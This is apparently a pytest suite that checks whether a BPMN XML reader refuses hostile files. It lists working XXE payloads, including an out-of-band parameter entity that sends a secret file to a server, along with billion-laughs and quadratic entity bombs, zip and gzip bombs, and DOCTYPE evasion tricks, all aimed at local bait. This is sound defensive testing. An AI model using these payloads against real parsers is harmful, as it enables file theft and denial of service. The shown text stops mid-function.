"""The threat table: what reading a hostile file may do, and what it must not.

Every row is a file. A process of its own reads it, with little memory, and tells what came of it,
how long that took and how much memory. The bait is a server and a file that no row may touch.
"""

from __future__ import annotations

import bz2
import contextlib
import gzip
import io
import itertools
import json
import lzma
import os
import random
import re
import socket
import socketserver
import subprocess
import sys
import threading
import zipfile
from collections import Counter
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import pytest
from lxml import etree

from cjbpmn.batch import Job, Status, StripModel, process_file
from cjbpmn.document import read_document
from cjbpmn.errors import CjbpmnError, InvalidDocument, UnsafeDocument
from cjbpmn.source import Source

pytestmark = pytest.mark.skipif(
    not hasattr(os, "fork"), reason="the table is read in forked processes"
)

ROOT = Path(__file__).parents[1]
SECRET = "the launch code is 8412"  # noqa: S105 - a bait
NS = 'xmlns="http://www.omg.org/spec/BPMN/20100524/MODEL"'
BODY = f'<definitions {NS}><process id="p" name="Grüße"/></definitions>'
DECLARATION = '<?xml version="1.0" encoding="UTF-8"?>\n'
SECONDS, MEGABYTES = 1.0, 200

READER = """
import json, os, resource, signal, sys, time, traceback
from lxml import etree
from cjbpmn.document import read_document
from cjbpmn.errors import CjbpmnError

def peak():
    unit = 1 if sys.platform == "darwin" else 1024
    return resource.getrusage(resource.RUSAGE_SELF).ru_maxrss * unit / 2**20

def told(error):
    return f"{type(error).__name__}: {error}"

def edited(document, data):
    document.root.set("exporter", "edited")
    again = read_document(document.to_bytes())
    same = again.root.get("exporter") == "edited" and again.to_bytes() == document.to_bytes()
    del document.root.attrib["exporter"]
    return same and document.to_bytes() == data

def judge(path, secret, limit):
    signal.alarm(30)
    resource.setrlimit(resource.RLIMIT_AS, (2 << 30, 2 << 30))
    before, started, outcome, document, seen = peak(), time.process_time(), {}, None, ""
    try:
        document = read_document(path, **({"max_bytes": limit} if limit else {}))
    except CjbpmnError as error:
        outcome["words"] = told(error)
        outcome["line"] = error.line
        seen = "".join(traceback.format_exception(error))
    except BaseException as error:
        outcome["untyped"] = told(error)
    outcome["seconds"] = time.process_time() - started
    outcome["megabytes"] = peak() - before
    if document is not None:
        seen = etree.tostring(document.root, encoding="unicode")
        outcome["tree"] = seen[:100_000]
        if os.path.getsize(path) < 3_000_000:
            data = open(path, "rb").read()
            outcome["same"] = document.to_bytes() == data
            outcome["edited"] = len(document.root.attrib) > 1000 or edited(document, data)
    outcome["leaked"] = secret in seen
    return outcome

for line in sys.stdin:
    if (child := os.fork()) == 0:
        try:
            print(json.dumps(judge(*json.loads(line))), flush=True)
        except BaseException as error:
            print(json.dumps({"untyped": told(error)}), flush=True)
        os._exit(0)
    if status := os.waitpid(child, 0)[1]:
        print(json.dumps({"untyped": f"died with status {status}"}), flush=True)
"""


@dataclass
class Outcome:
    """What came of reading a file."""

    words: str = ""
    line: int | None = None
    untyped: str = ""
    seconds: float = 0.0
    megabytes: float = 0.0
    tree: str | None = None
    same: bool | None = None
    edited: bool | None = None
    leaked: bool = False


class Reader:
    """A process that reads files for us, each in a process forked from it."""

    def __init__(self, folder: Path) -> None:
        self._process = subprocess.Popen(  # noqa: S603 - our own program
            [sys.executable, "-c", READER],
            stdin=subprocess.PIPE,
            stdout=subprocess.PIPE,
            text=True,
            cwd=folder,
            env=os.environ | {"PYTHONPATH": str(ROOT)},
        )

    def read(self, path: Path, limit: int | None = None) -> Outcome:
        assert self._process.stdin is not None
        assert self._process.stdout is not None
        self._process.stdin.write(json.dumps([str(path), SECRET, limit]) + "\n")
        self._process.stdin.flush()
        return Outcome(**json.loads(self._process.stdout.readline()))

    def close(self) -> None:
        assert self._process.stdin is not None
        assert self._process.stdout is not None
        self._process.stdin.close()
        self._process.wait(30)
        self._process.stdout.close()


@dataclass
class Bait:
    """A server that counts its visitors, and files that nobody should open."""

    folder: Path
    port: int
    hits: list[bytes] = field(default_factory=list)

    def lay(self, row: bytes | str) -> bytes:
        """Put the real addresses into a row."""
        data = row.encode() if isinstance(row, str) else row
        for name, value in {
            b"$HTTP": f"http://127.0.0.1:{self.port}/x.dtd",
            b"$FTP": f"ftp://127.0.0.1:{self.port}/x.dtd",
            b"$SECRET": f"file://{self.folder}/secret.txt",
            b"$PIPE": f"file://{self.folder}/pipe",
        }.items():
            data = data.replace(name, value.encode())
        return data


@pytest.fixture(scope="module")
def bait(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Bait]:
    """Lay the bait: a secret, a pipe at which a reader would wait for ever, a server."""
    folder = tmp_path_factory.mktemp("bait")
    (folder / "secret.txt").write_text(SECRET)
    (folder / "secret.dtd").write_text(f'<!ENTITY x "{SECRET}">')
    os.mkfifo(folder / "pipe")
    hits: list[bytes] = []

    class Handler(socketserver.BaseRequestHandler):
        def handle(self) -> None:
            hits.append(b"somebody")
            self.request.settimeout(1)
            with contextlib.suppress(OSError):
                hits[-1] = self.request.recv(1000)

    with socketserver.ThreadingTCPServer(("127.0.0.1", 0), Handler) as server:
        threading.Thread(target=server.serve_forever, daemon=True).start()
        yield Bait(folder, server.server_address[1], hits)
        server.shutdown()


@pytest.fixture(scope="module")
def reader(bait: Bait) -> Iterator[Reader]:
    """Give the process that reads; relative names lead it to the bait."""
    process = Reader(bait.folder)
    yield process
    process.close()


Row = bytes | str | Callable[[], bytes | str]


def doctype(subset: str, body: str = BODY) -> str:
    return f"{DECLARATION}<!DOCTYPE definitions [{subset}]>{body}"


def using(reference: str) -> str:
    return f"<definitions {NS}><documentation>{reference}</documentation></definitions>"


def laughs(first: str, times: int, levels: int) -> str:
    """Declare entities e0 … of which each is the one before, many times over."""
    parts = [f'<!ENTITY e0 "{first}">']
    parts += [f"<!ENTITY e{n} '{times * f'&e{n - 1};'}'>" for n in range(1, levels)]
    return "".join(parts)


def many(pattern: str, number: int) -> str:
    return " ".join(pattern.format(n) for n in range(number))


def zipped(data: bytes) -> bytes:
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("model.bpmn", data)
    return stream.getvalue()


def bomb() -> bytes:
    return gzip.compress(bytes(100_000_000), 1)


# Entities and document types: refused before the parser sees them.

ENTITIES = "UnsafeDocument: .*the file declares entities or default values, or names an external"
XXE = '<!ENTITY e SYSTEM "$SECRET">'

DOCTYPES: dict[str, Row] = {
    "entity of a file": doctype(XXE, using("&e;")),
    "entity of a pipe": doctype('<!ENTITY e SYSTEM "$PIPE">', using("&e;")),
    "entity of a device": doctype('<!ENTITY e SYSTEM "file:///dev/zero">', using("&e;")),
    "entity over http": doctype('<!ENTITY e SYSTEM "$HTTP">', using("&e;")),
    "entity over ftp": doctype('<!ENTITY e SYSTEM "$FTP">', using("&e;")),
    "entity of a relative file": doctype('<!ENTITY e SYSTEM "secret.txt">', using("&e;")),
    "entity with a public id": doctype('<!ENTITY e PUBLIC "-//x" "$HTTP">', using("&e;")),
    "entity over php": doctype('<!ENTITY e SYSTEM "php://filter/x">', using("&e;")),
    "entity that is not used": doctype(XXE),
    "unparsed entity": doctype('<!NOTATION n SYSTEM "n"><!ENTITY e SYSTEM "$HTTP" NDATA n>'),
    "external DTD over http": f'<!DOCTYPE definitions SYSTEM "$HTTP">{BODY}',
    "external DTD of a file": f"<!DOCTYPE definitions SYSTEM '$SECRET'>{using('&x;')}",
    "external DTD of a relative file": f'<!DOCTYPE definitions SYSTEM "secret.dtd">{using("&x;")}',
    "external DTD of a pipe": f'<!DOCTYPE definitions SYSTEM "$PIPE">{BODY}',
    "external DTD with a public id": f'<!DOCTYPE definitions PUBLIC "-//x" "$HTTP">{BODY}',
    "external DTD and a subset": f'<!DOCTYPE definitions SYSTEM "$HTTP" [<!ELEMENT a ANY>]>{BODY}',
    "external DTD on a new line": f'<!DOCTYPE\ndefinitions\nSYSTEM\n"$HTTP"\n>{BODY}',
    "parameter entity over http": doctype('<!ENTITY % p SYSTEM "$HTTP"> %p;'),
    "parameter entity of a file": doctype(f'<!ENTITY % p SYSTEM "$SECRET"> %p;{XXE}'),
    "parameter entity that sends a file": doctype(
        '<!ENTITY % f SYSTEM "$SECRET"><!ENTITY % d "<!ENTITY &#37; s SYSTEM \'$HTTP?%f;\'>">%d;%s;'
    ),
    "parameter entity inside": doctype("<!ENTITY % p '<!ENTITY e \"x\">'> %p;", using("&e;")),
    "parameter entity undeclared": doctype("%p;", using("&e;")),
    "internal entity": doctype('<!ENTITY e "x">', using("&e;")),
    "internal entity in an attribute": doctype(
        '<!ENTITY e "x">', f'<definitions {NS} name="&e;"/>'
    ),
    "internal entity that is a tag": doctype("<!ENTITY e '<process/>'>", using("&e;")),
    "predefined entity anew": doctype('<!ENTITY lt "&#38;#60;">'),
    "billion laughs": doctype(laughs("ha" * 10, 10, 12), using("&e11;")),
    "billion laughs in an attribute": doctype(
        laughs("ha" * 10, 10, 12), f'<definitions {NS} name="&e11;"/>'
    ),
    "billion laughs in a default value": doctype(
        laughs("ha" * 10, 10, 12) + '<!ATTLIST definitions name CDATA "&e11;">'
    ),
    "billion empty laughs": doctype(laughs("", 10, 12), using("&e11;")),
    "billion laughs of parameters": doctype(
        '<!ENTITY % a "<!ELEMENT x ANY>"><!ENTITY % b "%a;%a;"><!ENTITY % c "%b;%b;">%c;'
    ),
    "quadratic blow-up": lambda: doctype(f'<!ENTITY e "{"x" * 100_000}">', using("&e;" * 100_000)),
    "quadratic blow-up, few and large": lambda: doctype(
        f'<!ENTITY e "{"x" * 1_000_000}">', using("&e;" * 1_000)
    ),
    "cyclic entities": doctype('<!ENTITY a "&b;"><!ENTITY b "&a;">', using("&a;")),
    "an entity of itself": doctype('<!ENTITY a "&a;">', using("&a;")),
    "default attribute": doctype('<!ATTLIST process name CDATA "injected">'),
    "fixed attribute": doctype("<!ATTLIST process name CDATA #FIXED 'injected'>"),
    "default namespace": doctype('<!ATTLIST process xmlns CDATA "urn:other">'),
    "notation": doctype('<!NOTATION n SYSTEM "$HTTP">'),
    # Where a DOCTYPE may hide.
    "after comments": f"{DECLARATION}<!-- a --><!-- > --><!DOCTYPE d [{XXE}]>{using('&e;')}",
    "after a comment with an apostrophe": f"<!-- it's --><!DOCTYPE d [{XXE}]>{using('&e;')}",
    "after a comment with a tag": f"<!-- <definitions> --><!DOCTYPE d [{XXE}]>{using('&e;')}",
    "after instructions": f'{DECLARATION}<?a b="?><!DOCTYPE d [{XXE}]>{using("&e;")}',
    "after an instruction with a tag": f"<?a <b> '?><!DOCTYPE d [{XXE}]>{using('&e;')}",
    "after white space": f"{DECLARATION}\n\t \r\n<!DOCTYPE\td [{XXE}]>{using('&e;')}",
    "after a byte order mark": f"\ufeff<!DOCTYPE d [{XXE}]>{using('&e;')}",
    "in UTF-16": f"\ufeff<!DOCTYPE d [{XXE}]>{using('&e;')}".encode("utf-16-le"),
    "in UTF-16, big end first": f"\ufeff<!DOCTYPE d [{XXE}]>{using('&e;')}".encode("utf-16-be"),
    "in UTF-16 without a mark": (
        f'<?xml version="1.0" encoding="utf-16"?><!DOCTYPE d [{XXE}]>{using("&e;")}'
    ).encode("utf-16-le"),
    "in Latin-1": f'<?xml version="1.0" encoding="latin1"?><!DOCTYPE d [{XXE}]>{using("&e;")}',
    "with an apostrophe in a comment": doctype(f"<!-- it's -->{XXE}", using("&e;")),
    "with a quote in a comment": doctype(f'<!-- 12" -->{XXE}<!-- " -->', using("&e;")),
    "with an apostrophe in an instruction": doctype(f"<?it 's?>{XXE}", using("&e;")),
    "with ] in a comment": doctype(f"<!-- ]> -->{XXE}", using("&e;")),
    "with a root in a comment": doctype(f"<!-- ]><definitions> -->{XXE}", using("&e;")),
    "with ] in quotes": doctype(f'<!ATTLIST a b CDATA "]>">{XXE}', using("&e;")),
    "with an entity in quotes": doctype("<!ATTLIST a b CDATA \"<!ENTITY x 'y'>\">"),
    "with > in quotes": doctype('<!ENTITY e ">">', using("&e;")),
    "with < in quotes": doctype("<!ENTITY e '&#60;process/>'>", using("&e;")),
    "with quotes in quotes": doctype("<!ENTITY a '\"'><!ENTITY b \"'\">", using("&a;")),
    "without a subset's end": f"<!DOCTYPE definitions [{BODY}",
    "in parts": f"<!DOCTYPE definitions [<![INCLUDE[{XXE}]]>]>{BODY}",
    "in upper and lower case": f"<!DOCTYPE definitions system '$HTTP'>{BODY}",
}

# A megabyte of nearly nothing: each would keep a careless scan busy for hours.

STORMS: dict[str, Row] = {
    f"{start.strip() or 'nothing'}, then {token.strip() or 'blanks'}": (
        lambda start=start, token=token: start + token * (1_000_000 // len(token))
    )
    for start, token in itertools.product(
        ["", "<!DOCTYPE a [", "<!DOCTYPE a [<!ELEMENT a ANY>]>", f"<definitions {NS}>"],
        ["'", "'\"", "<", "<!--", "<?", "<!", "]", "]>", "%", "&a;", " ", "<!DOCTYPE ", "<!ELEMENT a (",
         "<!ATTLIST a ", "<!ENTITY a '", "<![CDATA[", "<a ", "<a b='", "-->", "?>", "--", "\ufeff"],
    )
}  # fmt: skip

# Everything else that is refused.

REFUSED: dict[str, tuple[Row, str]] = {
    "300 levels": (f"<definitions {NS}>{'<a>' * 300}{'</a>' * 300}</definitions>", "UnsafeDocument.*depth"),
    "100,000 levels": (lambda: f"<definitions {NS}>{'<a>' * 100_000}{'</a>' * 100_000}</definitions>", "UnsafeDocument.*depth"),
    "an attribute of 11 MB": (lambda: f'<definitions {NS} name="{"x" * 11_000_000}"/>', "UnsafeDocument.*limit exceeded"),
    "a text of 11 MB": (lambda: f"<definitions {NS}>{'x' * 11_000_000}</definitions>", "UnsafeDocument.*too long"),
    "a CDATA section of 11 MB": (lambda: f"<definitions {NS}><![CDATA[{'x' * 11_000_000}]]></definitions>", "UnsafeDocument.*too big"),
    "a comment of 11 MB": (lambda: f"<definitions {NS}><!--{'x' * 11_000_000}--></definitions>", "UnsafeDocument.*too big"),
    "an instruction of 11 MB": (lambda: f"<definitions {NS}><?a {'x' * 11_000_000}?></definitions>", "UnsafeDocument.*too big"),
    "a name of 60 kB": (f"<definitions {NS}><{'x' * 60_000}/></definitions>", "UnsafeDocument.*too long"),
    "a million attributes": (lambda: f"<definitions {NS} {many('a{}=_', 1_000_000)}/>".replace("_", "''"), "UnsafeDocument.*limit exceeded"),
    "a deep content model": (doctype(f"<!ELEMENT a {'(' * 100_000}>"), "UnsafeDocument.*too deep"),
    "gzip": (lambda: gzip.compress(BODY.encode()), "UnsafeDocument.*compressed; unpack"),
    "gzip bomb": (bomb, "UnsafeDocument.*compressed; unpack"),
    "zip": (lambda: zipped(BODY.encode()), "UnsafeDocument.*compressed; unpack"),
    "zip bomb": (lambda: zipped(bytes(100_000_000)), "UnsafeDocument.*compressed; unpack"),
    "bzip2": (lambda: bz2.compress(BODY.encode()), "UnsafeDocument.*compressed; unpack"),
    "xz": (lambda: lzma.compress(BODY.encode()), "UnsafeDocument.*compressed; unpack"),
    "zstd": (b"\x28\xb5\x2f\xfd\x04\x00\x19\x00\x00abc", "UnsafeDocument.*compressed; unpack"),
    "xz of the old kind": (lambda: lzma.compress(BODY.encode(), lzma.FORMAT_ALONE), "bytes are not utf-8"),
    "UTF-7, declared": (f'<?xml version="1.0" encoding="UTF-7"?>{BODY.replace("<", "+ADw-")}', "encoding utf-7 is not supported"),
    "UTF-7, not declared": (BODY.replace("<", "+ADw-"), "not well-formed"),
    "UTF-32, with a mark": (BODY.encode("utf-32"), "encoding utf-32 is not supported"),
    "UTF-32, big end first": (b"\0\0\xfe\xff" + BODY.encode("utf-32-be"), "encoding utf-32 is not supported"),
    "UTF-32, declared": (f'<?xml version="1.0" encoding="UTF-32"?>{BODY}'.encode(), "encoding utf-32 is not supported"),
    "UTF-32, without a mark": (f'<?xml version="1.0" encoding="UTF-32"?>{BODY}'.encode("utf-32-le"), "bytes are not utf-8"),
    "EBCDIC": (f'<?xml version="1.0" encoding="ebcdic-cp-us"?>{BODY}'.encode("cp037"), "bytes are not utf-8"),
    "Shift-JIS": (f'<?xml version="1.0" encoding="Shift_JIS"?>{BODY}'.encode("ascii", "xmlcharrefreplace"), "encoding shift_jis is not"),
    "ISO-2022": (f'<?xml version="1.0" encoding="iso-2022-kr"?>{BODY}'.encode("ascii", "xmlcharrefreplace"), "encoding iso2022_kr is not"),
    "an encoding of Python's": (f'<?xml version="1.0" encoding="unicode_escape"?>{BODY}', "encoding unicode-escape is not supported"),
    "a codec of Python's": (f'<?xml version="1.0" encoding="zlib"?>{BODY}', "encoding zlib is not supported"),
    "an unknown encoding": (f'<?xml version="1.0" encoding="klingon"?>{BODY}', "encoding klingon is not supported"),
    "declared UTF-16, and is not": (f'<?xml version="1.0" encoding="UTF-16"?>{BODY} ', "bytes are not utf-16|not well-formed"),
    "two byte order marks": (f"\ufeff\ufeff{BODY}", "not well-formed"),
    "UTF-16, not declared, without a mark": (BODY.encode("utf-16-le"), "not well-formed|bytes are not"),
    "half a character": (BODY.encode().replace("ß".encode(), b"\xc3"), "bytes are not utf-8"),
    "overlong": (BODY.encode().replace("ß".encode(), b"\xc0\xaf"), "bytes are not utf-8"),
    "half a surrogate pair": (BODY.encode().replace("ß".encode(), b"\xed\xa0\x80"), "bytes are not utf-8"),
    "not declared, and not UTF-8": (BODY.encode("latin-1"), "bytes are not utf-8; declare the encoding"),
    "NUL": (BODY.replace("ß", "\0"), "not well-formed.*invalid character"),
    "ESC": (BODY.replace("ß", "\x1b"), "not well-formed.*invalid character"),
    "U+FFFE": (BODY.replace("ß", "\ufffe"), "not well-formed.*invalid character"),
    "NUL by reference": (BODY.replace("ß", "&#0;"), "not well-formed.*invalid xmlChar"),
    "ESC by reference": (BODY.replace("ß", "&#x1b;"), "not well-formed.*invalid xmlChar"),
    "ESC by reference in XML 1.1": (f'<?xml version="1.1"?>{BODY}'.replace("ß", "&#x1b;"), "not well-formed.*invalid xmlChar"),
    "half a surrogate pair by reference": (BODY.replace("ß", "&#xd83d;"), "not well-formed.*invalid xmlChar"),
    "XML 2.0": (f'<?xml version="2.0"?>{BODY}', "not well-formed.*version '2.0'"),
    "an entity that nobody declares": (f"<definitions {NS}>&nbsp;<process/></definitions>", "not well-formed.*Entity 'nbsp' not defined"),
    "an entity that a DOCTYPE does not declare": (doctype("", using("&nbsp;")), "not well-formed.*Entity 'nbsp' not defined"),
    "an id twice, where ids are declared": (doctype("<!ATTLIST process id ID #IMPLIED>", f"<definitions {NS}><process id='a'/><process id='a'/></definitions>"), "not well-formed.*ID a already"),
    "a login page": ("<!DOCTYPE html>\n<html><head><title>Sign in</title></head><body><form/></body></html>", r"no BPMN 2\.0 model: the root is <html>"),
    "a login page in plain HTML": ("<!doctype html><html><br><form></html>", "not well-formed"),
    "a login page in XHTML": ('<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0" "$HTTP"><html/>', "UnsafeDocument.*external document type"),
    "BPMN 1.x": ('<bpmn:definitions xmlns:bpmn="http://schema.omg.org/spec/BPMN/1.1"/>', r"no BPMN 2\.0 model.*BPMN/1\.1"),
    "https in the namespace": (BODY.replace("http:", "https:"), r"no BPMN 2\.0 model.*https:"),
    "no namespace": ("<definitions/>", r"no BPMN 2\.0 model.*without a namespace"),
    "another root of BPMN": (f'<process {NS} id="p"/>', r"no BPMN 2\.0 model: the root is <process>"),
    "an SVG": ("<svg xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>", r"no BPMN 2\.0 model"),
    "JSON": ('{"resourceId": "canvas"}', "not well-formed.*does not begin with '<'; export the model as BPMN 2.0 XML"),
    "nothing": (b"", "file is empty"),
    "white space": (b" \n\t\r\n", "file is empty"),
    "a mark and nothing": (b"\xef\xbb\xbf", "not well-formed|file is empty"),
    "NULs": (bytes(1000), "file is empty"),
    "half a file": (BODY[:-20], "not well-formed"),
    "half a tag": (BODY[:40], "not well-formed"),
    "garbage at the end": (f"{BODY}\ngarbage", "not well-formed.*Extra content"),
    "two roots": (BODY * 2, "not well-formed.*Extra content"),
    "text before the root": (f"x{BODY}", "not well-formed"),
    "white space before the declaration": (f"\n{DECLARATION}{BODY}", "not well-formed.*declaration allowed only at the start"),
    "an attribute twice": (BODY.replace('id="p"', 'id="p" id="q"'), "not well-formed.*id redefined"),
    "an attribute twice by two prefixes": (f"<definitions {NS} xmlns:a='u' xmlns:b='u' a:x='1' b:x='2'/>", "not well-formed.*redefined"),
    "a prefix that nobody declares": (f"<definitions {NS}><x:task/></definitions>", "not well-formed.*prefix x on task is not defined"),
    "an odd namespace, and broken": (f"<definitions {NS} xmlns:a='a b'><task></definitions>", "not well-formed.*tag mismatch"),
    "odd namespaces, and a prefix undeclared": (
        f"<definitions {NS} {many('xmlns:a{}=_a b_', 200)}><x:task/></definitions>".replace("_", "'"), "not well-formed.*not a valid URI"
    ),
}  # fmt: skip

# What does no harm is read, and comes back to the byte.

ACCEPTED: dict[str, Row] = {
    "a DOCTYPE": f"<!DOCTYPE definitions>{BODY}",
    "an empty subset": doctype(""),
    "a subset of blanks": f"<!DOCTYPE definitions  [ \r\n\t ]  >\n{BODY}",
    "declared elements": doctype("\n<!ELEMENT definitions (process|x)*>\n<!ELEMENT process EMPTY>\n"),
    "declared attributes": doctype("<!ATTLIST process id ID #REQUIRED name CDATA #IMPLIED>"),
    "a comment in a DOCTYPE": doctype("<!-- it's [not] a \"tag\": <definitions> ]> <!ENTITY a 'b'> -->"),
    "an apostrophe in a DOCTYPE": doctype("<!-- it's -->", BODY.replace("</", "<documentation><![CDATA[ ]]></documentation></")),
    "an instruction in a DOCTYPE": doctype("<?it 's <task ]> SYSTEM \"a\"?>"),
    "a DOCTYPE in UTF-16": f"\ufeff<!DOCTYPE d [<!-- § -->]>{BODY}".encode("utf-16-be"),
    "a DOCTYPE in a comment": f"<!-- <!DOCTYPE d [{XXE}]> -->{BODY}",
    "a DOCTYPE in a text": BODY.replace("</", f"<documentation><![CDATA[<!DOCTYPE d [{XXE}]>]]></documentation></"),
    "300,000 comments before the root": lambda: "<!-- -->" * 300_000 + BODY,
    "300,000 comments in a DOCTYPE": lambda: doctype("<!-- -->" * 300_000),
    "a megabyte of blanks": lambda: f"<!DOCTYPE d [{' ' * 500_000}]>{' ' * 500_000}{BODY}",
    "XInclude": f'<definitions {NS} xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="$SECRET" parse="text"/><xi:include href="$HTTP"/></definitions>',
    "XInclude of a pipe": f'<definitions {NS} xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="$PIPE"/></definitions>',
    "a style sheet": f'<?xml-stylesheet type="text/xsl" href="$HTTP"?><?xml-model href="$PIPE"?>{BODY}',
    "a catalogue": f'<?oasis-xml-catalog catalog="$HTTP"?>{BODY}',
    "schemaLocation": f'<definitions {NS} xmlns:i="http://www.w3.org/2001/XMLSchema-instance" i:schemaLocation="urn:x $HTTP $PIPE $PIPE"/>',
    "import": f'<definitions {NS}><import importType="http://www.w3.org/2001/XMLSchema" location="$HTTP" namespace="x"/></definitions>',
    "xml:base": f'<definitions {NS} xml:base="$HTTP"><process id="p"/></definitions>',
    "200 levels": f"<definitions {NS}>{'<a>' * 200}{'</a>' * 200}</definitions>",
    "an attribute of 9 MB": lambda: f'<definitions {NS} name="{"x" * 9_000_000}"/>',
    "100,000 attributes": lambda: f"<definitions {NS} {many('a{}=_', 100_000)}/>".replace("_", "''"),
    "100,000 namespaces": lambda: f"<definitions {NS} {many('xmlns:a{0}=_u{0}_', 100_000)}/>".replace("_", "'"),
    "an odd namespace": f'<definitions {NS} xmlns:a="http://www.ibm.com/a b"><a:x/><process id="p"/></definitions>',
    "XML 1.1": f'<?xml version="1.1"?>{BODY}',
    "UTF-16 without a mark": f'<?xml version="1.0" encoding="UTF-16"?>{BODY}'.encode("utf-16-be"),
    "a mark against the declaration": f'\ufeff<?xml version="1.0" encoding="latin1"?>{BODY}',
    "C1 controls and bidi": BODY.replace("ß", "\u009b\u202e\u2028"),
    "a tab and a line end by reference": BODY.replace("ß", "&#9;&#10;&#13;"),
}  # fmt: skip


@dataclass
class Trial:
    """All that a row needs: who reads, the bait, and a folder."""

    reader: Reader
    bait: Bait
    path: Path

    def read(self, row: Row) -> Outcome:
        """Read a row, and see that nothing was fetched, leaked or waited for."""
        data = row() if callable(row) else row
        self.path.write_bytes(self.bait.lay(data))
        return self.read_path(self.path)

    def read_path(self, path: Path, limit: int | None = None) -> Outcome:
        """Read a file, and see the same."""
        outcome = self.reader.read(path, limit)
        assert not outcome.untyped
        assert not outcome.leaked
        assert self.bait.hits == []
        return outcome


@pytest.fixture(name="trial")
def fixture_trial(reader: Reader, bait: Bait) -> Iterator[Trial]:
    """Give all that a row needs."""
    trial = Trial(reader, bait, bait.folder / "row.bpmn")
    yield trial
    trial.path.unlink(missing_ok=True)


def named(table: dict[str, Any]) -> list[Any]:
    return [
        pytest.param(*(row if isinstance(row, tuple) else (row,)), id=name)
        for name, row in table.items()
    ]


def assert_refused(outcome: Outcome, words: str) -> None:
    assert re.search(words, outcome.words)
    assert "\n" not in outcome.words
    assert "XML_PARSE" not in outcome.words
    assert_cheap(outcome)


def assert_cheap(outcome: Outcome) -> None:
    assert outcome.seconds < SECONDS
    assert outcome.megabytes < MEGABYTES


@pytest.mark.parametrize("row", named(DOCTYPES))
def test_entities_are_refused_unread(row: Row, trial: Trial) -> None:
    assert_refused(trial.read(row), ENTITIES)


@pytest.mark.parametrize("row", named(STORMS))
def test_no_storm_keeps_the_reader_busy(row: Row, trial: Trial) -> None:
    assert_refused(trial.read(row), "(Invalid|Unsafe)Document: ")


@pytest.mark.parametrize(("row", "words"), named(REFUSED))
def test_what_is_no_model_is_refused_in_words(row: Row, words: str, trial: Trial) -> None:
    assert_refused(trial.read(row), words)


@pytest.mark.parametrize("row", named(ACCEPTED))
def test_what_does_no_harm_comes_back_to_the_byte(row: Row, trial: Trial) -> None:
    outcome = trial.read(row)
    assert outcome.tree is not None, outcome.words
    assert outcome.same is not False
    assert outcome.edited is not False
    assert "injected" not in outcome.tree
    assert_cheap(outcome)


def test_the_bait_would_be_taken(bait: Bait) -> None:
    parser = etree.XMLParser(resolve_entities=True)
    row = bait.lay(doctype(XXE, using("&e;")))
    assert SECRET.encode() in etree.tostring(etree.fromstring(row, parser))
    with socket.create_connection(("127.0.0.1", bait.port)) as visitor:
        visitor.sendall(b"GET")
        visitor.shutdown(socket.SHUT_WR)
        visitor.recv(1)
    assert bait.hits == [b"GET"]
    bait.hits.clear()


def test_wrong_bytes_are_found_by_their_line(trial: Trial) -> None:
    data = f"{DECLARATION}<definitions {NS}>\n<process\nname='Grüße'/></definitions>"
    outcome = trial.read(data.encode("cp1252"))
    assert_refused(outcome, r":4: the bytes are not utf-8; declare the encoding")
    assert outcome.line == 4


def test_a_doctype_is_found_by_its_line(trial: Trial) -> None:
    outcome = trial.read(f"{DECLARATION}<!--\n-->\n<!DOCTYPE d [\n{XXE}\n]>{BODY}")
    assert outcome.line == 4


class TestSize:
    def test_a_file_over_the_limit_is_refused(self, trial: Trial) -> None:
        with trial.path.open("wb") as stream:
            stream.truncate(1 << 30)
        outcome = trial.read_path(trial.path)
        assert_refused(outcome, "UnsafeDocument.*over the limit of 67,108,864 bytes")

    def test_the_limit_can_be_set(self, trial: Trial) -> None:
        trial.path.write_text(BODY)
        size = trial.path.stat().st_size
        assert trial.read_path(trial.path, size).same
        assert_refused(trial.read_path(trial.path, size - 1), f"over the limit of {size - 1} bytes")

    def test_memory_grows_with_the_file_and_no_faster(self, trial: Trial) -> None:
        """Five million elements in 20 MB are read; who expects no such file sets a limit."""
        used = {}
        for number in (500_000, 5_000_000):
            trial.path.write_bytes(
                f"<definitions {NS}>".encode() + b"<a/>" * number + b"</definitions>"
            )
            outcome = trial.read_path(trial.path)
            assert outcome.tree is not None
            used[number] = outcome.megabytes
            assert outcome.megabytes < 45 * trial.path.stat().st_size / 2**20
        assert used[5_000_000] < 12 * used[500_000]
        assert_refused(trial.read_path(trial.path, 1_000_000), "over the limit of 1,000,000 bytes")


class TestNoFile:
    """What has a name but is no file: it may never end, or never begin."""

    def test_a_folder(self, trial: Trial) -> None:
        assert_refused(trial.read_path(trial.bait.folder), "InvalidDocument.*not a regular file")

    def test_a_pipe(self, trial: Trial) -> None:
        path = trial.bait.folder / "pipe"
        assert_refused(trial.read_path(path), "InvalidDocument.*not a regular file")

    @pytest.mark.parametrize("name", ["/dev/zero", "/dev/null", "/dev/tty"])
    def test_a_device(self, name: str, trial: Trial) -> None:
        assert_refused(trial.read_path(Path(name)), "InvalidDocument: /dev/")

    def test_a_socket(self, trial: Trial, monkeypatch: pytest.MonkeyPatch) -> None:
        monkeypatch.chdir(trial.bait.folder)  # The name of a socket must be short.
        with socket.socket(socket.AF_UNIX) as server:
            server.bind(trial.path.name)
            assert_refused(trial.read_path(trial.path), "InvalidDocument.*not a regular file")

    def test_nothing(self, trial: Trial) -> None:
        assert_refused(trial.read_path(trial.path), "InvalidDocument.*cannot be read: no such file")

    def test_a_link_to_a_file_is_followed(self, trial: Trial, tmp_path: Path) -> None:
        trial.path.write_text(BODY)
        link = tmp_path / "link.bpmn"
        link.symlink_to(trial.path)
        assert trial.read_path(link).same

    @pytest.mark.parametrize("goal", ["nowhere", "link.bpmn", "/dev/zero"])
    def test_a_link_to_something_else_is_not(self, goal: str, trial: Trial, tmp_path: Path) -> None:
        link = tmp_path / "link.bpmn"
        link.symlink_to(goal)
        assert_refused(trial.read_path(link), "InvalidDocument.*(cannot be read|not a regular)")


def test_what_is_refused_leaves_no_output(bait: Bait, tmp_path: Path) -> None:
    rows = {**DOCTYPES, **{name: row for name, (row, _) in REFUSED.items()}}
    small = [row for row in rows.values() if not callable(row)]
    source, target = bait.folder / "refused.bpmn", tmp_path / "out" / "refused.bpmn"
    for row in small:
        source.write_bytes(bait.lay(row))
        done = process_file(StripModel(), Job(source, target))
